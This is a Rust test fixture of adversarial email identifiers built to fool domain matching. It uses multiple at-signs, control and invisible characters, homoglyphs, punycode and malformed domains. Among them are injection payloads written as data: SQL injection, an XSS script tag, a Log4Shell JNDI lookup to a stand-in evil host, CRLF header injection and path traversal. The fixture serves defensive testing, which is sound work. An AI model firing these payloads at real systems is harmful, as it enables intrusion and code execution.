//! Identifiers that must neither match nor break anything. Both runners include this file.

/// All of them; most contain the domain of a customer in a way that once fooled somebody's matching.
pub(crate) fn identifiers() -> Vec<String> {
    let long = |unit: &str| unit.repeat(10 * 1024 / unit.len());
    let mut all: Vec<String> = [
        // Several at-signs, in all their spellings.
        "a@b@globex.example",
        "ana@globex.example@evil.example",
        "ana@evil.example@globex.example",
        "@ana@globex.example",
        "ana@@globex.example",
        "ana@globex.example@",
        "ana\u{ff20}evil.example@globex.example",
        "ana@evil.example\u{ff20}globex.example",
        "ana\u{fe6b}b@globex.example",
        "\"ana@evil\"@globex.example",
        "ana@evil.example,b@globex.example",
        "Ana <ana@globex.example>",
        "<ana@globex.example>",
        "mailto:ana@globex.example?cc=b@globex.example",
        // Controls and what cannot be seen.
        "ana\u{0}@globex.example",
        "ana@globex.example\u{0}",
        "ana@globex.example\u{0}.evil.example",
        "ana@glo\u{0}bex.example",
        "ana@globex.example\r\nSet-Cookie: a=b",
        "ana\r\n@globex.example",
        "ana@globex.example\n",
        "ana\t@globex.example",
        "ana\u{1b}[2J@globex.example",
        "ana\u{7f}@globex.example",
        "ana\u{85}@globex.example",
        "ana\u{202e}@globex.example",
        "ana@\u{202e}elpmaxe.xebolg",
        "ana@globex\u{202e}.example",
        "\u{2066}ana\u{2069}@globex.example",
        "ana\u{feff}@globex.example",
        "ana@globex.example\u{2028}",
        // Other scripts that look alike, alone and mixed.
        "ana@gl\u{43e}bex.example",
        "ana@globex.ex\u{430}mple",
        "ana@\u{0261}lobex.example",
        "ana@globex\u{2024}example.evil.example",
        "ana@xn--glbex-jye.example",
        "ana@xn--",
        "ana@xn--\u{fc}.example",
        // What is no domain, or another one.
        "ana@globex.example.",
        "ana@.globex.example",
        "ana@globex..example",
        "ana@globex.example:443",
        "ana@globex.example/",
        "ana@globex.example?organization=org_globexGLOBEX0001",
        "ana@globex.example#",
        "ana@globex.example%00",
        "ana@globex.example%2eevil.example",
        "ana@-globex.example",
        "ana@*.globex.example",
        "ana@[globex.example]",
        "ana@globex example",
        "ana@globex.example\\evil.example",
        "ana@evil-globex.example",
        "ana@globex.example.evil.example",
        // For other parsers than ours.
        "' OR '1'='1'@globex.example",
        "\"><script>alert(1)</script>@globex.example",
        "${jndi:ldap://evil.example}@@globex.example",
        "../../organization@@globex.example",
        "(comment)ana@globex.example",
        "ana@globex.example(comment)",
        "..@globex.example",
        "@",
        "@@",
        "\u{fffd}@globex.example@",
    ]
    .map(str::to_owned)
    .into();
    all.extend([
        format!("{}@globex.example", long("a")),
        format!("ana@{}.globex.example", long("b")),
        format!("ana@{}globex.example", long("b.")),
        format!("{}globex.example", long("@")),
        format!("ana@{}.globex.example", "\u{fc}".repeat(1024)),
        format!("{}@globex.example", "\u{0}".repeat(1024)),
        long("a"),
        long("a "),
    ]);
    all
}
